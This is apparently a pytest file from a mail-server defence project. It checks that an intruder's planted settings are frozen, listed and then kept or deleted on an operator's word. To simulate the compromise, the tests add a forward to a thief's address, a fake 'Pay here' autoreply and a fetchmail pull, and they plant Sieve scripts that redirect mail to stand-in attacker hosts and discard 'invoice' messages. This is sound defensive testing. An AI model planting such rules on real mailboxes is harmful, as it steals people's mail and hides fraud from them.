"""P4: what an intruder plants in the settings is switched off before the waiting mail comes in, listed, and kept or
deleted by a person's word; the owner's own forward from before stays. On probation a new forward is switched off, too.
Sabotage: tests/sabotage/t30.patch (the release does not look for planted settings)."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
from harness import ABROAD, HOME, Box, Hijacker, Stack, stack_of_its_own

from sekisho.rehearsal.outside import wait_until
from sekisho.rehearsal.sieve_client import SieveSession

OWN, THIEF, SECOND = "own.phone@t30-home.test", "thief@t30-dropbox.test", "second@t30-dropbox.test"
SENDER = "sakura@t30-shop.test"


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    """Its own: the agent's round of looks takes a second for each mailbox."""
    with stack_of_its_own() as running:
        yield running


@pytest.fixture
def box(stack: Stack) -> Box:
    """An owner who has long forwarded his mail to his phone and has a filter, as looks have seen."""
    box = stack.new_box("t30")
    stack.site_sql("UPDATE alias SET goto = ? WHERE address = ?", f"{box.address},{OWN}", box.address)
    stack.command("settings", "look")
    filing = 'require ["fileinto"];\r\nif exists "List-Id" { fileinto "Newsletter"; }\r\n'
    # Not over ManageSieve, which he has never used before: that is a sign in itself, if a weak one.
    dovecot = ["doveadm", "-c", str(stack.var / "ours" / "dovecot" / "dovecot.conf"), "sieve", "put", "-u", box.address]
    subprocess.run([*dovecot, "-a", "own"], input=filing.encode(), check=True, timeout=20)
    # The agent's round of all mailboxes begins with its start.
    stack.restarted("agent", stack.kill("agent"))
    seen = "SELECT count(*) FROM incidents_knownsetting WHERE mailbox = ? AND what LIKE '%\"active\": true%'"
    assert wait_until(lambda: stack.our_sql(seen, box.address)[0][0] == 1, 60, pause=0.5) is not None
    return box


def plant(stack: Stack, box: Box, name: str, script: str, *, active: bool, source: str = HOME) -> None:
    session = SieveSession(stack.places.sieve, client_address=source)
    answers = [session.login(box.address, box.password), session.put_script(name, script)]
    if active:
        answers.append(session.set_active(name))
    session.close()
    assert all(answer.accepted for answer in answers), answers


def goto(stack: Stack, box: Box) -> set[str]:
    return set(stack.site_sql("SELECT goto FROM alias WHERE address = ?", box.address)[0][0].split(","))


def planted(stack: Stack, number: int) -> dict[str, dict[str, Any]]:
    return {item["name"]: item for item in stack.ask("incident", "planted", str(number))}


def intrude(stack: Stack, box: Box) -> None:
    """As PostfixAdmin's pages for users and ManageSieve would write it; then spam, until he is stopped."""
    with stack.session(box, ABROAD):
        """His first login: what follows is his."""
    stack.site_sql("UPDATE alias SET goto = goto || ? WHERE address = ?", f",{THIEF}", box.address)
    domain = box.address.partition("@")[2]
    stack.site_sql(
        "INSERT INTO vacation (email, subject, body, domain, active) VALUES (?, 'New bank', 'Pay here', ?, 1)",
        box.address, domain,
    )  # fmt: skip
    stack.site_sql(
        "INSERT INTO fetchmail (mailbox, src_server, src_user, src_password, src_folder, active)"
        " VALUES (?, 'imap.t30-dropbox.test', 'thief', 'his', '', 1)",
        box.address,
    )
    plant(stack, box, "backup", f'redirect "{SECOND}";\r\n', active=False, source=ABROAD)
    hide = f'if header :contains "Subject" "invoice" {{ discard; stop; }}\r\nredirect "{THIEF}";\r\n'
    plant(stack, box, "hide", hide, active=True, source=ABROAD)
    Hijacker(stack, box).run(names="t30")
    stack.assert_shut(box, within=5)


def test_planted_settings_are_switched_off_before_mail_comes_in(stack: Stack, box: Box) -> None:
    intrude(stack, box)
    assert wait_until(lambda: stack.status(box) == "suspended", 10, pause=0.5) is not None
    number = stack.incident(box)["id"]
    names = {THIEF, "hide", "backup", "New bank", "imap.t30-dropbox.test"}

    def all_off() -> bool:
        items = planted(stack, number)
        return names == set(items) and {item["state"] for item in items.values()} == {"frozen"}

    assert wait_until(all_off, 20, pause=1) is not None, planted(stack, number)
    # Put back while it is shut: the release looks once more.
    stack.site_sql("UPDATE alias SET goto = goto || ? WHERE address = ?", f",{SECOND}", box.address)
    letters = [stack.write(box.address, SENDER, "t30") for _ in range(3)]
    stack.reinstate(box)
    stack.assert_arrives_once(box, letters, within=90)
    assert wait_until(lambda: set(stack.outside_inbox(OWN)) >= set(letters), 20, pause=1) is not None
    assert not stack.outside_inbox(THIEF) and not stack.outside_inbox(SECOND)
    assert goto(stack, box) == {box.address, OWN}
    assert stack.site_sql("SELECT active FROM vacation WHERE email = ?", box.address) == [(0,)]
    assert stack.site_sql("SELECT active FROM fetchmail WHERE mailbox = ?", box.address) == [(0,)]

    items = planted(stack, number)
    deletes = [word for name in {*names, SECOND} - {"New bank"} for word in ("--delete", str(items[name]["id"]))]
    stack.command("incident", "planted", str(number), "--keep", str(items["New bank"]["id"]), *deletes)

    def settled() -> bool:
        states = {name: item["state"] for name, item in planted(stack, number).items()}
        return states == dict.fromkeys({*names, SECOND}, "deleted") | {"New bank": "kept"}

    assert wait_until(settled, 30, pause=1) is not None, planted(stack, number)
    assert stack.site_sql("SELECT active FROM vacation WHERE email = ?", box.address) == [(1,)]
    assert stack.site_sql("SELECT active FROM fetchmail WHERE mailbox = ?", box.address) == []
    session = SieveSession(stack.places.sieve, client_address=HOME)
    assert session.login(box.address, box.password).accepted
    assert session.scripts() == {"own": True}
    session.close()

    # On probation: asked about, and off within seconds.
    stack.site_sql("UPDATE alias SET goto = goto || ? WHERE address = ?", f",{THIEF}", box.address)
    assert wait_until(lambda: goto(stack, box) == {box.address, OWN}, 30, pause=0.5) is not None
    plant(stack, box, "again", f'redirect "{SECOND}";\r\n', active=True)

    def again_off() -> bool:
        items = planted(stack, number)
        return items[THIEF]["state"] == "frozen" and items.get("again", {}).get("state") == "frozen"

    assert wait_until(again_off, 30, pause=1) is not None, planted(stack, number)
    last = stack.write(box.address, SENDER, "t30")
    stack.assert_arrives_once(box, [*letters, last], within=60)
    assert not stack.outside_inbox(THIEF) and not stack.outside_inbox(SECOND)
